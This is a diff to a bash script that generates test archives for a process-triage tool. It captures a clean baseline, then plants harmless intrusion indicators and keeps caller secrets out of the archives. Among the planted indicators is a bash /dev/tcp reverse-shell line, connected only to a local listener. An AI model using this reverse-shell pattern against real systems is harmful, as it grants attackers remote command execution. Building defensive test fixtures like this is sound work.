@@ -3,8 +3,9 @@
 #
 # Usage: run.sh OUTDIR [PROCSNAP_COLLECT]
 #
-# 1. Starts a clean "baseline" set of processes (sleep, a bash reading a FIFO) and captures them, plus pid 1 and
-#    this script, with procsnap-collect --pids  ->  OUTDIR/baseline.tar.zst
+# 1. Starts a clean "baseline" set of processes (sleep, a bash reading a FIFO) and captures them, plus a few
+#    system processes (kthreadd and kernel threads; SCENARIO_SYSTEM_PIDS overrides), with procsnap-collect
+#    --pids  ->  OUTDIR/baseline.tar.zst
 # 2. Plants one safe instance of each triage indicator it can (below) and captures baseline + planted processes
 #    ->  OUTDIR/compromised.tar.zst
 # 3. Stops everything it started, by pid, and removes its work directory (trap on EXIT/INT/TERM).
@@ -59,9 +60,26 @@ cleanup() {
 trap cleanup EXIT
 trap 'exit 130' INT TERM
 
-# start CMD... : run in the background and remember its pid (commands exec, so the pid stays the process's).
+# Every scenario process gets a minimal environment (env -i ...): the archives are meant to be shared, and the
+# caller's environment (tokens, paths) must not end up in proc/<pid>/environ members.
+CLEAN_ENV=(env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin HOME=/ LANG=C "SCENARIO_TTL=$SCENARIO_TTL")
+
+# System processes captured besides the scenario's: kthreadd and its first kernel threads by default (no
+# environment, nothing private); set SCENARIO_SYSTEM_PIDS (comma-separated, e.g. 1) to choose others.
+if [[ -n ${SCENARIO_SYSTEM_PIDS+x} ]]; then
+  IFS=, read -r -a SYSTEM_PIDS <<<"$SCENARIO_SYSTEM_PIDS"
+else
+  SYSTEM_PIDS=(2)
+  if [[ -r /proc/2/task/2/children ]]; then
+    read -r -a kids </proc/2/task/2/children || true
+    SYSTEM_PIDS+=("${kids[@]:0:3}")
+  fi
+fi
+
+# start CMD... : run in the background with the clean environment and remember its pid (commands exec, so the
+# pid stays the process's).
 start() {
-  "$@" </dev/null >/dev/null 2>>"$WORK/stderr.log" &
+  "${CLEAN_ENV[@]}" "$@" </dev/null >/dev/null 2>>"$WORK/stderr.log" &
   STARTED+=("$!")
   LAST=$!
 }
@@ -100,15 +118,15 @@ plant() { printf '%s\t%s\t%s\n' "$1" "$2" "$3" >>"$OUT/planted.tsv"; }
 # ---- baseline: ordinary processes only, from system binaries --------------------------------------------------
 mkfifo "$WORK/fifo"
 # A bash waiting for a line on a FIFO (started by hand: start() would point its stdin at /dev/null).
-bash -c 'read -r line; exec sleep "$SCENARIO_TTL"' <"$WORK/fifo" >/dev/null 2>&1 &
+"${CLEAN_ENV[@]}" bash -c 'read -r line; exec sleep "$SCENARIO_TTL"' <"$WORK/fifo" >/dev/null 2>&1 &
 STARTED+=("$!"); B_BASH=$!
-sleep "$SCENARIO_TTL" >"$WORK/fifo" &
+"${CLEAN_ENV[@]}" sleep "$SCENARIO_TTL" >"$WORK/fifo" &
 STARTED+=("$!"); B_WRITER=$!
 start sleep "$SCENARIO_TTL"; B_SLEEP=$LAST
 sleep 0.5
 BASELINE=("$B_BASH" "$B_WRITER" "$B_SLEEP")
 printf '%s\n' "${BASELINE[@]}" >"$OUT/baseline-pids.txt"
-capture baseline "procsnap triage scenario: clean baseline" 1 "$$" "${BASELINE[@]}"
+capture baseline "procsnap triage scenario: clean baseline" "${SYSTEM_PIDS[@]}" "${BASELINE[@]}"
 
 # ---- the planted "intrusion" ----------------------------------------------------------------------------------
 PLANTED=()
@@ -144,7 +162,7 @@ start "$WORK/implant" listen 127.0.0.1 "$WORK/port"; PLANTED+=("$LAST")
 wait_file "$WORK/port"
 PORT=$(<"$WORK/port")
 # The reverse shell: sh reading its commands from a TCP connection to the local listener (which sends nothing).
-bash -c 'exec 3<>"/dev/tcp/127.0.0.1/$1"; exec sh <&3 >&3 2>&3' revshell "$PORT" &
+"${CLEAN_ENV[@]}" bash -c 'exec 3<>"/dev/tcp/127.0.0.1/$1"; exec sh <&3 >&3 2>&3' revshell "$PORT" &
 STARTED+=("$!"); P=$!; PLANTED+=("$P")
 plant reverse-shell pid "$P"
 
@@ -185,7 +203,8 @@ EOF
 sleep 1  # let preloads load, renames happen, connections establish
 rm -f "$WORK/dropper" "$WORK/libgone.so"
 sleep 0.2
-capture compromised "procsnap triage scenario: planted indicators" 1 "$$" "${BASELINE[@]}" "${PLANTED[@]}"
+capture compromised "procsnap triage scenario: planted indicators" "${SYSTEM_PIDS[@]}" "${BASELINE[@]}" \
+  "${PLANTED[@]}"
 printf '%s\n' "${PLANTED[@]}" >"$OUT/planted-pids.txt"
 if [[ -s $WORK/stderr.log ]]; then
   echo "run.sh: messages from the planted processes:" >&2
